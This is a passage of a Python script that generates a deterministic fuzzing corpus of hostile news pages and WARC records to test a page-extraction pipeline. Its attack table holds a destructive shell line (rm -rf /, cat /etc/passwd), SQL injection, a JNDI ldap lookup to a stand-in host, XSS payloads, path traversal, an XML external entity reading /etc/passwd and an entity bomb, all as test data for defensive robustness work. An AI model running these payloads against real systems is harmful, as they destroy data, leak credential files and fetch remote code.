"""Make a landing zone of more than 2,000 hostile pages: damaged, lying, malicious, endless.

    python scripts/make_hostile.py DIRECTORY [--seed 0] [--sample 250] [--without-giants]

Every call with the same arguments makes the same bytes. Beside each input the manifest tells how many
records it holds and how many of them a reader must call pages (not for damaged ones, where only what
comes out can tell): `manifest.json`, a name that no run reads.
"""

# ruff: noqa: E501  tables of what hostile pages say

from __future__ import annotations

import argparse
import gzip
import io
import itertools
import json
import os
import socket
import struct
import zipfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import asdict, dataclass, replace
from functools import partial
from html import escape
from pathlib import Path
from random import Random
from typing import Any
from urllib.parse import quote

import zstandard

ROOT = Path(__file__).resolve().parent.parent


@dataclass(frozen=True)
class Hostile:
    """One input of the landing zone."""

    name: str
    """Path below the landing zone; bytes that are no UTF-8 as surrogate escapes."""
    family: str
    content: bytes | Callable[[Path], None]
    """What the file holds, or what makes it."""
    records: int | None = None
    """Records that it holds; None where damage decides."""
    pages: int | None = None
    """Those of them that are read: loaded or quarantined, not ignored."""
    giant: bool = False
    """Takes seconds or hundreds of megabytes."""


# --- a page, and what can stand in its fields --------------------------------------------------------

WORDS = [
    "the",
    "ferry",
    "sailed",
    "again",
    "on",
    "monday",
    "after",
    "weeks",
    "in",
    "dock",
    "and",
    "a",
    "brass",
    "band",
    "met",
    "it",
    "where",
    "people",
    "waited",
    "while",
    "the",
    "harbour",
    "master",
    "said",
    "that",
    "islanders",
    "had",
    "lived",
    "on",
    "what",
    "fishing",
    "boats",
    "could",
    "carry",
    "since",
    "october",
]
FIELDS: dict[str, str] = {
    "lang": "en",
    "title": "Ferry returns to Lorn Island after eleven weeks",
    "heading": "Ferry returns to Lorn Island after eleven weeks",
    "description": "The first crossing since October brought flour, post and a brass band to the quay.",
    "author": "Ilse Varga",
    "byline": "By Ilse Varga",
    "published": "2025-05-17T10:00:00+02:00",
    "shown": "17 May 2025",
    "modified": "2025-05-17T12:30:00+02:00",
    "section": "Regional",
    "canonical": "https://www.paper.example/news/ferry",
    "site": "The Lorn Courier",
    "paragraph": "Islanders had lived on what fishing boats could carry, said the harbour master on the quay.",
    "caption": "The quay on Monday. Photo: Jonas Brandt/dpa",
    "label": "Most read",
    "headline": "Council approves the harbour wall after a long night of debate",
    "href": "/news/harbour-wall",
    "class": "story",
}
"""Field → what an honest page says there."""


def sentence(rng: Random, words: int = 20) -> str:
    return " ".join(rng.choices(WORDS, k=words)).capitalize() + "."


def honest(rng: Random, **fields: str) -> str:
    """A news page with every field, where `fields` stand in the place of what is honest. Not escaped."""
    said = FIELDS | fields
    ld = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": said["title"],
        "author": {"@type": "Person", "name": said["author"]},
        "datePublished": said["published"],
        "dateModified": said["modified"],
        "articleSection": said["section"],
        "mainEntityOfPage": said["canonical"],
    }
    body = "".join(f"<p>{sentence(rng)}</p>" for _ in range(3))
    return f"""<!doctype html><html lang="{said["lang"]}"><head><meta charset="utf-8">
<title>{said["title"]}</title><meta name="description" content="{said["description"]}">
<link rel="canonical" href="{said["canonical"]}"><meta property="og:site_name" content="{said["site"]}">
<meta property="article:published_time" content="{said["published"]}">
<meta property="article:modified_time" content="{said["modified"]}">
<meta property="article:section" content="{said["section"]}"><meta name="author" content="{said["author"]}">
<script type="application/ld+json">{json.dumps(ld)}</script></head>
<body><article class="{said["class"]}"><h1>{said["heading"]}</h1>
<p class="byline">{said["byline"]}</p><time datetime="{said["published"]}">{said["shown"]}</time>
<figure><img src="quay.jpg" alt=""><figcaption>{said["caption"]}</figcaption></figure>
{body}<p>{said["paragraph"]}</p></article>
<aside><h2>{said["label"]}</h2><ul><li><a href="{said["href"]}">{said["headline"]}</a></li>
<li><a href="/news/bakery">Bakery on Mill Street closes after ninety years of bread</a></li></ul></aside>
</body></html>"""


def flattened(rng: Random, **fields: str) -> str:
    """The same page as text."""
    said = FIELDS | fields
    return "\n".join((
        said["section"], said["title"], said["byline"], said["shown"], said["description"], said["caption"],
        *("\n" + sentence(rng) for _ in range(3)), "", said["paragraph"], "", said["label"],
        said["headline"], "Bakery on Mill Street closes after ninety years of bread", "",
    ))  # fmt: skip


ATTACKS: dict[str, str] = {
    "nul": "Ferry\0 returns\0",
    "c0": "".join(map(chr, range(1, 32))),
    "c1": "".join(map(chr, range(0x7F, 0xA0))) + "x",
    "bidi": "\u202eyrreF\u202c \u2066returns\u2069 \u200f\u200e\u061c",
    "zero width": "F\u200be\u200cr\u200dr\u2060y\ufeff\u00ad\u180e\u3164\u2800\u115f",
    "nothing seen": "\u200b\u200b\u200b",
    "private use": "\ue000\uf8ff\U000f0000\U0010fffd",
    "no characters": "\uffff\ufffe\ufdd0\U0001ffff\U0010ffff",
    "line ends": "one\u2028two\u2029three\x85four\x0bfive\x0csix\rseven",
    "marks": "Z" + "\u0300\u0489\u20dd" * 3_000,
    "ligatures": "\ufdfa" * 1_000,
    "folding": "\u0130\u1e9e\u00df\ufb03\u0149\u01f0\u1f80" * 50,
    "digits": "²⁵ ⅷ ٣٤ ०१२ ①②③ 𝟙𝟚 〇一二",
    "emoji": "👩‍👩‍👧‍👦" * 200 + "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "tags of language": "\U000e0001" + "".join(chr(0xE0000 + ord(c)) for c in "hidden words"),
    "30,000 characters": "Ferry returns " * 2_150,
    "one word of 30,000": "F" * 30_000,
    "spaces": " \t\u00a0\u2003\u3000" * 3_000,
    "empty": "",
    "blank": " \n\t ",
    "sql": "'); DROP TABLE broadsheet.articles; --",
    "sql 2": "x' OR '1'='1'/**/UNION SELECT NULL,version();$$;COMMIT;",
    "copy": "\\.\n\\N\t\\\\x00\t\\b\\v\\",
    "arrays": '{"a","b",NULL,{{}},"\\\\"}',
    "percent": "%s%n%d%(name)s%x 100% %%",
    "braces": "{0}{name!r:>{width}}{{}}{__class__.__mro__}",
    "template": "{{ flow_run.name }}{% for x in range(10**9) %}{% endfor %}${jndi:ldap://x.example/a}`id`",
    "shell": "$(touch /tmp/owned) ; rm -rf / | cat /etc/passwd #",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b1m\x1bP+q\x1b\\",
    "rich": "[bold red]x[/bold red][link=file:///etc/passwd]y[/link][/][[ :skull:",
    "markdown": "](javascript:alert(1)) | --- | ``` <!-- --> ![x](http://a.example/t.gif)",
    "formula": '=HYPERLINK("http://a.example","x")\t@SUM(1)\t+1-1',
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg onload=alert(1)>",
    "unclosed": "<b><i><table><td><!-- <![CDATA[ <script> <style> <title> <textarea>",
    "entities": "&amp;amp;amp;lt;&#0;&#x0;&#xD800;&#x110000;&#99999999999999;&nbsp;&zwj;&unknown;&#128;&AMP",
    "surrogates": "\ud83d half \udc00 other \udfff\ud800",
    "pairs in escapes": "\\ud83d\\ude00 \\u0000 \\x00 \\N{BELL}",
    "path": "../../../../etc/passwd\\..\\..\\windows",
    "url": "javascript:alert(document.cookie)//https://www.paper.example/",
    "urls": "http://" + "a." * 5_000 + "example/" + "%00" * 500 + "?" + "q=1&" * 5_000,
    "ports": "http://user:secret@[::1]:99999999/[x]?#\\@www.paper.example",
    "homograph": "https://www.рареr.example/news/ferry",
    "year 0": "0000-01-01T00:00:00Z",
    "year 9999": "9999-12-31T23:59:59.999999999-23:59",
    "year 10000": "10000-01-01T00:00:00Z",
    "year 1": "0001-01-01T00:00:00+14:00",
    "before": "-0044-03-15",
    "no such day": "2025-02-30T25:61:61+99:99",
    "month 13": "13/13/2025 13 May 99999, 31 April 2025, 29 February 2023",
    "seconds": "1747476000000000000000000",
    "zones": "2025-05-17T10:00:00" + "+00:00" * 50,
    "many dates": "17 May 2025 " * 2_000,
    "digits only": "9" * 5_000,
    "roman": "١٧ مايو ٢٠٢٥ ۱۴۰۴ 令和7年5月17日 民國114年 二〇二五年",
    "names": "By " + ", ".join(f"Anna Person{n}" for n in range(2_000)),
    "bars": "Ferry | " * 4_000,
    "dashes": "Ferry - – — · » " * 2_000,
    "quotes": "\"'„“”‚‘’«»‹›「」" * 800,
    "brackets": "([{<" * 2_000,
    "dots": "Ferry … ... . . ." * 1_000,
    "minutes": "99999999999999999999 min read ²min read ٣ min read",
    "numbers": "1. 2. 3. 10^400 1e400 NaN -Infinity 0x10 1_000 ١٢٣",
}


def injected(rng: Random) -> Iterator[tuple[str, str, bytes]]:
    """Every attack in every field."""
    for (attack, text), field in itertools.product(ATTACKS.items(), FIELDS):
        make = (
            flattened
            if field not in ("lang", "canonical", "href", "class") and rng.random() < 0.3
            else honest
        )
        said = escape(text) if make is honest and rng.random() < 0.3 else text
        page = make(rng, **{field: said})
        yield f"{attack} in {field}", _kind(make), page.encode("utf-8", "surrogatepass")
    for attack, text in ATTACKS.items():
        yield (
            f"{attack} everywhere",
            "html",
            honest(rng, **dict.fromkeys(FIELDS, text)).encode("utf-8", "replace"),
        )
        yield (
            f"{attack} everywhere",
            "txt",
            flattened(rng, **dict.fromkeys(FIELDS, text)).encode("utf-8", "replace"),
        )


def _kind(make: object) -> str:
    return "html" if make is honest else "txt"


CANONICAL = (
    "https://other.example/news/ferry", "//other.example/x", "/news/ferry", "ferry", "?a=b", "#here", "", " ",
    "javascript:alert(1)", "data:text/html,<p>x", "file:///etc/passwd", "ftp://www.paper.example/x", "mailto:a@b",
    "https://www.paper.example/" + "x" * 100_000, "https://user:pw@www.paper.example/a", "https://[::1]/a",
    "https://[not:an:address/a", "https://www.paper.example:0/a", "https://www.paper.example:65536/a",
    "https://xn--80ak6aa92e.example/a", "https://www.pаper.example/a", "https://www.paper.example.\u3002example/a",
    "https://WWW.PAPER.EXAMPLE/a/../b/./c//d?b=2&a=1&utm_source=x#f", "https://www.paper.example/%zz%00%ff%2e%2e/a",
    "https://www.paper.example/" + "../" * 5_000, "https://www.paper.example/\n\t\r a", "https:\\\\www.paper.example\\a",
    "https:///a", "https://", "http:", "https://.", "https://..example/a", "https://paper.example@other.example/a",
    "https://1.2.3.4/a", "https://0x7f.1/a", "https://co.uk/a", "https://example/a", "https://\udcff.example/a",
    "https://" + "a" * 300 + ".paper.example/a", "https://www.paper.example/?" + "&".join(f"k{n}={n}" for n in range(9_000)),
)  # fmt: skip


def canonical(rng: Random) -> Iterator[tuple[str, str, bytes]]:
    """Canonical URLs that lie, in the link and in JSON-LD, once and a hundred times."""
    for url in CANONICAL:
        page = honest(rng, canonical=url)
        yield "canonical", "html", page.encode("utf-8", "surrogatepass")
        links = "".join(f'<link rel="canonical" href="{url}{n}">' for n in range(100))
        yield "many canonicals", "html", page.replace("<title>", links + "<title>").encode("utf-8", "replace")
        yield (
            "base",
            "html",
            page.replace("<title>", f'<base href="{url}"><title>').encode("utf-8", "replace"),
        )


def structured_data(rng: Random) -> Iterator[tuple[str, str, bytes]]:
    """JSON-LD that is deep, cyclic, huge or none."""
    deep = 100_000
    hostile = (
        "[" * deep + "]" * deep, '{"a":' * deep + "1" + "}" * deep, '{"@graph":' * 900 + "[]" + "}" * 900,
        '{"@type":"NewsArticle","headline":' + "9" * 10_000 + "}", '{"@type":"NewsArticle","datePublished":1e400}',
        '{"@type":"NewsArticle","headline":NaN,"author":[null,true,1,{"name":[["x"]]}]}',
        '{"@id":"#a","@type":"NewsArticle","author":{"@id":"#b"}}{"@id":"#b","author":{"@id":"#a"}}',
        '{"@type":"NewsArticle","headline":"one","headline":"two","headline":null}',
        '{"@type":["NewsArticle",{"x":1},null,7],"headline":{"@value":"x"},"image":{"caption":{"a":[]}}}',
        '{"@type":"NewsArticle","headline":"\\ud800\\udc00\\ud83d","author":"\\u0000\\u001b"}',
        '{"@type":"NewsArticle","author":[' + ",".join(['{"name":"Anna Kos"}'] * 50_000) + "]}",
        '{"@type":"NewsArticle","articleBody":"' + "Word here. " * 200_000 + '"}',
        '{"@type":"NewsArticle","articleBody":"' + "<p><div>" * 100_000 + '"}',
        '{"@type":"NewsArticle","isPartOf":{"isPartOf":{"isPartOf":{}}},"wordCount":-1e308,"inLanguage":{"a":1}}',
        '{"@type":"NewsArticle","datePublished":["2025",{"@value":"9999-99-99"}],"dateModified":{"a":"b"}}',
        "{" + ",".join(f'"k{n}":{{"@type":"NewsArticle","headline":"h{n}"}}' for n in range(20_000)) + "}",
        "", "null", "[[]]", '"x"', "{", '{"a":}', "\ufeff{}", "<!--{}-->", "//<![CDATA[\n{}\n//]]>", "0" * 100_000,
        "[" + "1," * 200_000 + "1]", "-" * 100_000, '{"' + "k" * 200_000 + '":1}', "\\u" * 10_000,
    )  # fmt: skip
    for data in hostile:
        script = f'<script type="application/ld+json">{data}</script>'
        yield "json-ld", "html", honest(rng).replace("</head>", script + "</head>").encode()
        whole = honest(rng).partition("<script")[0] + script + "</head>" + honest(rng).partition("</head>")[2]
        yield "only json-ld", "html", whole.encode()
    many = '<script type="application/ld+json">{"@type":"NewsArticle","headline":"x"}</script>' * 5_000
    yield "many json-ld", "html", honest(rng).replace("</head>", many + "</head>").encode()


TEXTS = {
    "latin": "Die Fähre fuhr am Montag über den Sund zurück, und Bürger spendeten Beifall für Käpt’n Jørgen. ",
    "greek": "Το πλοίο επέστρεψε τη Δευτέρα στο νησί και οι κάτοικοι χειροκρότησαν στην προβλήτα. ",
    "cyrillic": "Паром вернулся на остров в понедельник, и жители встретили его на причале с оркестром. ",
    "chinese": "渡轮周一返回岛上，居民们在码头上鼓掌欢迎。港务长说，冬天以来他们只能依靠渔船。",
    "japanese": "フェリーは月曜日に島へ戻り、住民は埠頭で拍手で迎えた。港長は冬の間は漁船が頼りだったと語った。",
    "korean": "여객선이 월요일 섬으로 돌아왔고 주민들은 부두에서 박수로 맞이했다. ",
    "arabic": "عادت العبّارة يوم الاثنين إلى الجزيرة وصفق السكان على الرصيف. ",
    "thai": "เรือข้ามฟากกลับมายังเกาะในวันจันทร์ และชาวบ้านปรบมือต้อนรับที่ท่าเรือ ",
}
ACTUAL = {
    "latin": ("utf-8", "latin-1", "cp1252", "utf-16-le", "utf-16-be", "utf-16", "utf-32", "utf-7", "cp437", "utf-8-sig"),
    "greek": ("utf-8", "iso8859-7", "cp1253", "utf-16-le"),
    "cyrillic": ("utf-8", "koi8-r", "cp1251", "cp866", "utf-16-be", "iso8859-5"),
    "chinese": ("utf-8", "gbk", "gb18030", "big5", "hz", "utf-16-le"),
    "japanese": ("utf-8", "shift-jis", "euc-jp", "iso2022_jp", "utf-16-be"),
    "korean": ("utf-8", "euc-kr", "cp949", "utf-16"),
    "arabic": ("utf-8", "cp1256", "iso8859-6", "utf-16-le"),
    "thai": ("utf-8", "tis-620", "utf-16-be"),
}  # fmt: skip
STATED = (
    "utf-8",
    "iso-8859-1",
    "gbk",
    "shift_jis",
    "koi8-r",
    "utf-16",
    "utf-7",
    "x-user-defined",
    "no-such",
    "rot13",
    "\0",
)
MARKS = (b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\0\0", b"\0\0\xfe\xff")


def encodings(rng: Random) -> Iterator[tuple[str, str, bytes]]:
    """Every script in its encodings, under declarations and byte order marks that lie."""
    for script, text in TEXTS.items():
        for actual in ACTUAL[script]:
            for stated in rng.sample(STATED, 3):
                page = honest(rng, heading=text, title=text, paragraph=text * 10).replace("utf-8", stated)
                yield f"{actual} said to be {stated!r}", "html", page.encode(actual, "replace")
            body = flattened(rng, title=text, paragraph=text * 10).encode(actual, "replace")
            yield f"text in {actual}", "txt", body
            yield f"{actual} under a mark", "txt", rng.choice(MARKS) + body
            yield f"{actual} cut in a character", "txt", body[: -rng.randint(1, 5)]
    for broken in (
        b"\xc0\xaf",
        b"\xe0\x80\xaf",
        b"\xf8\x88\x80\x80\x80",
        b"\xed\xa0\x80",
        b"\xed\xb0\x80",
        b"\xff",
        b"\x80",
    ):
        for often in (1, 20, 2_000):
            page = honest(rng).encode().replace(b"ferry", broken + b"ferry", often)
            yield "no utf-8", "html", page + broken * often
    page = honest(rng).encode()
    yield (
        "mixed",
        "html",
        page + honest(rng, paragraph=TEXTS["cyrillic"]).encode("utf-16") + TEXTS["chinese"].encode("gbk"),
    )
    for mark in MARKS:
        yield "mark before another encoding", "html", mark + page
        yield "only a mark", "txt", mark
        yield "marks", "html", mark * 1_000 + page


def structures(rng: Random, giant: bool = False) -> Iterator[tuple[str, str, bytes]]:
    """Markup that nests, repeats or never ends; the giant ones up to the size limit of a page."""
    many = 200_000 if giant else 3_000
    million = 1_000_000 if giant else 20_000
    tail = honest(rng).partition("<body>")[2]
    for tag in (
        "div",
        "b",
        "table",
        "p",
        "a",
        "ul><li",
        "svg",
        "template",
        "form",
        "select",
        "font",
        "math",
        "section",
    ):
        yield f"nested {tag}", "html", f"<html><body>{f'<{tag}>' * many}{tail}".encode()
    for name in (
        f"<{tag}>"
        for tag in ("!--", "script", "style", "textarea", "title", "xmp", "plaintext", "noscript", "iframe")
    ):
        yield (
            f"{name} never closed",
            "html",
            f"<html><body>{tail}{name.replace('!-->', '!--') * many}{tail}".encode(),
        )
    yield "cdata never closed", "html", f"<html><body>{'<![CDATA[' * many}{tail}".encode()
    yield (
        "attributes",
        "html",
        f"<html><body><p {' '.join(f'a{n}=1' for n in range(million))}>x</p>{tail}".encode(),
    )
    yield "bare attributes", "html", f"<html><body><p {'a ' * million}>x</p>{tail}".encode()
    yield "one attribute", "html", f"<html><body><p class='{'k ' * million}'>x</p>{tail}".encode()
    yield "quotes", "html", f"<html><body>{'<p a=' + chr(39)}{'<p a=' * many}{tail}".encode()
    yield "entities", "html", f"<html><body><p>{'&amp;&lt;&#65;&nosuch;' * (million // 4)}</p>{tail}".encode()
    yield "entities in text", "txt", (flattened(rng) + "&amp;&lt;&#65;&nosuch;" * (million // 4)).encode()
    links = "".join(f"<li><a href=/n/{n}>News number {n} of the town</a></li>" for n in range(million // 8))
    yield "headlines", "html", f"<html><body>{tail}<aside><h2>Most read</h2><ul>{links}</ul></aside>".encode()
    lines = "\n".join(f"News number {n} of the town hall" for n in range(million // 4))
    yield "headlines in text", "txt", (flattened(rng) + lines).encode()
    yield "short lines", "txt", ("x\n" * million).encode()
    yield "blank lines", "txt", (flattened(rng) + "\n" * million + "end").encode()
    yield "one line", "txt", ("word " * million).encode()
    yield "one word", "txt", ("w" * million).encode()
    yield "one line", "html", f"<html><body><p>{'word ' * million}</p>{tail}".encode()
    yield "less than", "txt", ("<" * million).encode()
    yield "tags in text", "txt", (flattened(rng) + "<b>x</b> <br> " * (million // 8)).encode()
    yield "brackets", "txt", ("[(" * million).encode()
    yield "paragraphs", "html", f"<html><body><article>{'<p>A word.' * (million // 8)}</article>".encode()
    yield "breaks", "html", f"<html><body><div>{'a<br>' * (million // 4)}</div>{tail}".encode()
    yield "cells", "html", f"<html><body><table>{'<tr><td>1<td>2' * (million // 8)}</table>{tail}".encode()
    yield (
        "times",
        "html",
        f"<html><body>{'<time datetime=2025-05-17>17 May 2025</time>' * (million // 16)}{tail}".encode(),
    )
    metas = "".join(f'<meta property="og:t{n}" content="x">' for n in range(million // 16))
    yield "metas", "html", f"<html><head>{metas}</head><body>{tail}".encode()
    yield "frames", "html", b"<html><frameset>" + b"<frame src=a>" * many
    yield "end tags", "html", b"<html><body>" + b"</p></div>" * many + tail.encode()
    misnested = "<b><p></b><i></p></i><a><table><a>" * (many // 20)
    yield "misnested", "html", f"<html><body>{misnested}{tail}".encode()


def polyglots(rng: Random) -> Iterator[tuple[str, str, bytes]]:
    """What is a page and something else too."""
    page = honest(rng).encode()
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(zipfile.ZipInfo("page.html"), page)
    starts = {
        "pdf": b"%PDF-1.7\n", "zip": held.getvalue(), "gif": b"GIF89a" + struct.pack("<HH", 1, 1), "elf": b"\x7fELF",
        "png": b"\x89PNG\r\n\x1a\n", "jpeg": b"\xff\xd8\xff\xe0", "gzip": gzip.compress(page, mtime=0), "mz": b"MZ\x90",
        "shell": b"#!/bin/sh\n", "tar": b"page.html".ljust(257, b"\0") + b"ustar", "xml": b"<?xml version='1.0'?>",
        "bomb of entities": b'<!DOCTYPE x [<!ENTITY a "&b;&b;"><!ENTITY b "&c;&c;"><!ENTITY c "ha">]><x>&a;</x>',
        "outside entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>&a;</p>', "mail": b"MIME-Version: 1.0\n",
        "json": json.dumps({"html": page.decode()}).encode(), "javascript": b"/*", "zstd": b"\x28\xb5\x2f\xfd", "sqlite":
        b"SQLite format 3\0", "pickle": b"\x80\x04\x95", "warc": b"WARC/1.0\r\n", "rtf": b"{\\rtf1", "bzip2": b"BZh9",
    }  # fmt: skip
    for name, start in starts.items():
        yield f"{name} and markup", "html", start + page
        yield f"markup and {name}", "html", page + start
        yield f"{name} and text", "txt", start + flattened(rng).encode()
        yield f"{name} alone", "txt", start
    for size in (0, 1, 2, 3, 15, 4_096, 100_000):
        yield "random bytes", "html", rng.randbytes(size)
        yield "random bytes", "txt", rng.randbytes(size)


def mutated(rng: Random, count: int) -> Iterator[tuple[str, str, bytes]]:
    """Real pages with bits flipped, pieces cut out, doubled, moved or taken from another."""
    pages = sorted((ROOT / "tests" / "pages").rglob("*.html")) + sorted(
        (ROOT / "tests" / "pages").rglob("*.txt")
    )
    whole = [(path.suffix[1:], path.read_bytes()) for path in pages]
    for _ in range(count):
        kind, content = rng.choice(whole)
        yield "mutated", kind, mutate(rng, content, [page for _, page in whole])


def mutate(rng: Random, content: bytes, others: Sequence[bytes]) -> bytes:
    """Some bytes of a page changed, cut, doubled, moved or replaced by bytes of others."""
    page = bytearray(content)
    for _ in range(rng.choice((1, 3, 10))):
        at = rng.randrange(len(page) + 1)
        end = min(len(page), at + rng.choice((1, 10, 200, 2_000)))
        other = rng.choice(others)
        start = rng.randrange(len(other) + 1)
        match rng.randrange(7):
            case 0 if page:
                page[min(at, len(page) - 1)] ^= 1 << rng.randrange(8)
            case 1:
                del page[at:end]
            case 2:
                page[at:at] = page[at:end] * rng.choice((1, 20))
            case 3:
                page[at:end] = other[start : start + end - at]
            case 4:
                page[at:at] = rng.choice(
                    (b"<", b">", b'"', b"<!--", b"</", b"<script>", b"&", b"\0", b"\xff", b"<p>")
                )
            case 5:
                page[at:at] = rng.choice(list(ATTACKS.values())).encode("utf-8", "surrogatepass")[:500]
            case 6:
                del page[at:]
    return bytes(page)


# --- records ----------------------------------------------------------------------------------------


def json_line(kind: str, content: bytes, number: int) -> bytes:
    """A page as a line of a dump; what is no UTF-8 becomes half surrogates in escapes, as Python writes them."""
    said: dict[str, Any] = {"html" if kind == "html" else "text": content.decode("utf-8", "surrogateescape")}
    if number % 3:
        said["url"] = f"https://www.paper.example/news/{number}"
    if number % 4:
        said["fetched_at"] = f"2025-05-{number % 28 + 1:02}T10:00:00Z"
    return json.dumps(said).encode() + b"\n"


LINES: tuple[bytes, ...] = (
    b"[]", b"[1,2]", b"7", b"NaN", b"-Infinity", b"1e400", b'"text"', b"null", b"true", b"{}", b"{", b"}{", b"\xff\xfe{",
    b"\xef\xbb\xbf{\"text\": \"a page behind a mark\"}", b'{"html": null}', b'{"html": 7, "text": []}', b'{"html": ""}',
    b'{"text": "\\ud800 lone \\udc00"}', b'{"text": "\\u0000"}', b'{"text": "x", "url": 7, "fetched_at": {}, "source": []}',
    b'{"text": "x", "url": "\\ud800", "source": "\\u0000", "content_type": "\\ud800/x"}', b'{"text": "a", "text": "b"}',
    b'{"text": "x", "fetched_at": 1e400}', b'{"text": "x", "fetched_at": 99999999999999999999}', b'{"text": "x", "fetched_at": NaN}',
    b'{"text": "x", "fetched_at": "0000-00-00"}', b'{"text": "x", "fetched_at": "9999-12-31T23:59:59-14:00"}',
    b'{"text": "x", "fetched_at": "' + b"9" * 5_000 + b'"}', b'{"text": "x", "fetched_at": true, "url": "' + b"u" * 30_000 + b'"}',
    b'{"text": "x", "url": "http://[::1", "source": "' + b"s" * 30_000 + b'"}', b'{"text": "x", "url": "javascript:alert(1)"}',
    b'{"text": "x", "content_type": "text/html; charset=utf-7"}', b'{"text": "x", "html": "<p>both"}',
    b'{"html": ' * 50_000 + b"1" + b"}" * 50_000, b"[" * 200_000, b'{"text":' + b"9" * 50_000 + b"}", b"{'text': 'python'}",
    b'{"text": "cut', b"{\"text\": \"tab\there\"}", b'{"text": "bad \\x escape"}', b"WARC/1.0", b"<html><p>a page, bare</html>",
    b'{"\\u0000": 1, "' + b"k" * 5_000 + b'": 2}', b'{"text": "carriage"}\r', b'{"text": "\xc3\x28 \xed\xa0\x80"}', b"#", b"\0\0\0",
)  # fmt: skip


def warc_record(
    block: bytes, *, kind: str = "response", media: str = "application/http", url: str = "https://www.paper.example/a",
    length: str | None = None, extra: str = "", version: str = "WARC/1.0", end: bytes = b"\r\n\r\n",
) -> bytes:  # fmt: skip
    head = f"{version}\r\nWARC-Type: {kind}\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2025-05-17T10:00:00Z\r\n{extra}"
    head += f"Content-Type: {media}\r\nContent-Length: {length or len(block)}\r\n\r\n"
    return head.encode("utf-8", "surrogatepass") + block + end


def http(
    body: bytes, *headers: str, status: str = "200 OK", media: str = "text/html; charset=utf-8"
) -> bytes:
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {media}", *headers, "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogatepass") + body


def warc_pages(pages: Iterable[tuple[str, str, bytes]]) -> list[bytes]:
    """Pages as responses and resources of HTTP."""
    records = []
    for number, (_, kind, content) in enumerate(pages):
        media = "text/html" if kind == "html" else "text/plain"
        url = f"https://www.paper.example/w/{number}"
        if number % 5:
            records.append(warc_record(http(content, media=media), url=url))
        else:
            records.append(warc_record(content, kind="resource", media=media, url=url))
    return records


def warc_oddities(rng: Random) -> Iterator[tuple[str, list[bytes], int | None, int | None]]:
    """(family, stored records, how many there are, how many are pages), the last two None if damage decides."""
    page = honest(rng).encode()
    good = warc_record(http(page))
    for kind in ("request", "metadata", "revisit", "warcinfo", "continuation", "unknown-kind", ""):
        yield f"record of type {kind}", [good, warc_record(http(page), kind=kind), good], 3, None
    for media in (
        "image/png",
        "application/pdf",
        "text/css",
        "",
        "text/html;;;charset=",
        "TEXT/HTML",
        "\ud800",
    ):
        yield "media", [warc_record(http(page, media=media)), good], 2, None
    for length in (
        "-1",
        "0",
        "99999999999",
        "999999999999999999999999",
        "abc",
        "1e9",
        " ",
        "0x10",
        "5",
        str(len(page) * 2),
    ):
        yield f"length {length}", [good, warc_record(http(page), length=length), good], None, None
    for extra in ("Content-Length: 3\r\n", "X: " + "y" * 70_000 + "\r\n", "no colon\r\n", ": empty\r\n", " folded\r\n" * 3,
                  "WARC-Date: 0000-00-00T00:00:00Z\r\n", "WARC-Date: 9999-99-99\r\n", "WARC-Truncated: length\r\n",
                  "WARC-Identified-Payload-Type: text/html\r\n", "WARC-Segment-Number: 2\r\n"):  # fmt: skip
        yield "headers", [good, warc_record(http(page), extra=extra), good], None, None
    for url in (
        "",
        "<https://www.paper.example/a>",
        "urn:uuid:0",
        "dns:www.paper.example",
        "javascript:1",
        "x" * 30_000,
        "\ud800",
    ):
        yield "target", [warc_record(http(page), url=url), good], 2, 2
    chunked = b"%x\r\n%b\r\n0\r\n\r\n" % (len(page), page)
    sent: list[tuple[bytes, tuple[str, ...]]] = [
        (chunked, ("Transfer-Encoding: chunked",)), (page, ("Transfer-Encoding: chunked",)),
        (chunked[: len(chunked) // 2], ("Transfer-Encoding: chunked",)), (b"fffffffffffffffff\r\n" + page, ("Transfer-Encoding: chunked",)),
        (b"-5\r\nabc", ("Transfer-Encoding: chunked",)), (gzip.compress(page, mtime=0), ("Content-Encoding: gzip",)),
        (gzip.compress(page, mtime=0)[:-20], ("Content-Encoding: gzip",)), (page, ("Content-Encoding: gzip",)),
        (zstandard.compress(page), ("Content-Encoding: zstd",)), (page, ("Content-Encoding: br",)), (page, ("Content-Encoding: x, y, gzip",)),
        (gzip.compress(gzip.compress(page, mtime=0), mtime=0), ("Content-Encoding: gzip, gzip",)), (page, ("Content-Length: 99999999999",)),
        (b"", ()), (b"\0" * 5_000, ()), (page, ("A: b" * 20_000,)), (page, ("\0\x01",)), (page, ("Content-Encoding: deflate",)),
    ]  # fmt: skip
    for body, headers in sent:
        yield "http", [good, warc_record(http(body, *headers)), good], 3, None
    for block in (
        b"",
        b"HTTP",
        b"HTTP/1.1\r\n\r\n",
        b"\r\n\r\n",
        b"HTTP/9.9 -1 \0\r\nA\r\n\r\n" + page,
        b"garbage " * 500,
        page,
    ):
        yield "no http", [good, warc_record(block), good], 3, None
    for status in ("301 Moved", "204 No Content", "500 Error", "99999 X", "-1", "abc", ""):
        yield "status", [warc_record(http(page, status=status)), good], 2, None
    for version in ("WARC/0.18", "WARC/1.1", "WARC/9.9", "WARC/", "warc/1.0", "HTTP/1.1", "\0"):
        yield f"version {version!r}", [good, warc_record(http(page), version=version), good], None, None
    for end in (b"", b"\n\n", b"\r\n", b"\r\n" * 50, b"junk\r\n\r\n", b"\0\0\0\0"):
        yield "ends", [good, warc_record(http(page), end=end), good], None, None
    yield (
        "conversions",
        [warc_record(flattened(rng).encode(), kind="conversion", media="text/plain") for _ in range(5)],
        5,
        5,
    )


# --- inputs -----------------------------------------------------------------------------------------

STORED: dict[str, Callable[[Sequence[bytes]], bytes]] = {
    "": b"".join,
    ".gz": lambda records: b"".join(gzip.compress(record, mtime=0) for record in records),
    ".one.gz": lambda records: gzip.compress(b"".join(records), mtime=0),
    ".zst": lambda records: zstandard.ZstdCompressor(write_checksum=True).compress(b"".join(records)),
    ".frames.zst": lambda records: b"".join(
        map(zstandard.ZstdCompressor(write_checksum=True).compress, records)
